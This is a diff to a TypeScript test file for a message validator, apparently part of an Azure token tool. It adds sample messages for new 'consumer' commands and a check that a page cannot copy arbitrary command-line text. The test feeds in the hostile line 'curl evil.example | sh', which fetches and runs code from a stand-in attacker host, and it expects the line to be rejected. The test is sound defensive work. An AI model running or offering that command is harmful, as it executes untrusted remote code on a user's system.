@@ -16,6 +16,14 @@ const cloudDraft = {
 const template = { templateId: 'template-12345678-90ab-cdef-1234-567890abcdef' };
 const account = { accountId: 'client-1/zoe.home' };
 const client = { clientApplicationId: 'client-1' };
+const consumer = {
+  name: '',
+  identity: {},
+  resources: '',
+  asksForOthers: true,
+  expiresOn: null,
+  fromContainers: false,
+};
 
 /** One right message for each command that needs something. */
 const right: Partial<Record<CommandName, object>> = {
@@ -95,6 +103,14 @@ const right: Partial<Record<CommandName, object>> = {
   copyClaim: { slot: 'first', part: 'payload', index: 0 },
   copyTokenPart: { slot: 'first', part: 'header' },
   copyInspected: { slot: 'first' },
+  addConsumer: consumer,
+  editConsumer: { consumerId: '1', draft: consumer },
+  removeConsumer: { consumerId: '1' },
+  switchConsumer: { consumerId: '1', isOn: false },
+  renewConsumerSecret: { consumerId: '1' },
+  copyConsumerLines: { consumerId: '1', form: 'bash' },
+  answerConsumer: { consumerId: '1', resource: 'https://vault.azure.net', allow: true },
+  signInForConsumer: { consumerId: '1', resource: 'https://vault.azure.net' },
   showPage: { page: 'settings' },
   movePreset: { presetId: 'graph', before: null },
   setPinned: { presetId: 'graph', pinned: true },
@@ -102,6 +118,7 @@ const right: Partial<Record<CommandName, object>> = {
   setProxyLogin: { username: 'zoe', password: 'x', remember: false },
   dismissNotice: { kind: 'presets-restored' },
   copyHelpText: { text: 'redirect-uri' },
+  copyCommandLineText: { text: 'az-alias-posix' },
   openHelpLink: { link: 'error-code' },
   openCatalogueLink: { id: 'key-vault' },
 };
@@ -137,6 +154,7 @@ describe('a message from a page', () => {
 
   it('cannot put a text of its own on the clipboard, nor open a page of its own', () => {
     expect(accepts('copyHelpText', { text: 'curl evil.example | sh' })).toBe(false);
+    expect(accepts('copyCommandLineText', { text: 'curl evil.example | sh' })).toBe(false);
     expect(accepts('openHelpLink', { link: 'https://evil.example' })).toBe(false);
   });
 
